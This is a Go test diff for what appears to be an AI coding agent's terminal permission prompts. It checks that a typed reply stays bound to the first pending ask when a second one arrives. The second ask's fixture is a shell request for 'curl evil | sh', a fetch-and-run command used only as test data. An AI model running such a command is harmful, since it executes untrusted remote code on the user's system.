@@ -89,3 +89,21 @@ func TestGuardBoundary(t *testing.T) {
 		}
 	})
 }
+
+// TestPlainLineKeepsItsAsk: in plain lines, the line read for the shown ask goes to that ask,
+// even when it is answered elsewhere meanwhile and the next one takes its place: the next was
+// shown a moment ago, and the line was typed for the first (docs/tui.md: it is sent to the
+// first and refused ask_not_pending).
+func TestPlainLineKeepsItsAsk(t *testing.T) {
+	var out strings.Builder
+	p := &plain{out: &out, atLineStart: true, e: NewEngine(Config{Session: "ses_1"}, func(any) {})}
+	first := events.PermissionAsked{SessionID: "ses_1", AskID: "ask_p1", CallID: "p1", Tool: "apply_patch", Key: "edit", Resource: "a.txt"}
+	second := events.PermissionAsked{SessionID: "ses_1", AskID: "ask_p2", CallID: "p2", Tool: "shell", Key: "bash", Resource: "curl evil | sh"}
+	p.handle(askMsg{Ask: first})
+	p.handle(askMsg{Ask: second})
+	target := p.wants() // the line the person types now is for the first
+	p.handle(askSettledMsg{AskID: "ask_p1"})
+	if got := target.ask.Ask.AskID; got != "ask_p1" {
+		t.Fatalf("the line read for ask_p1 would answer %s, shown a moment ago:\n%s", got, out.String())
+	}
+}
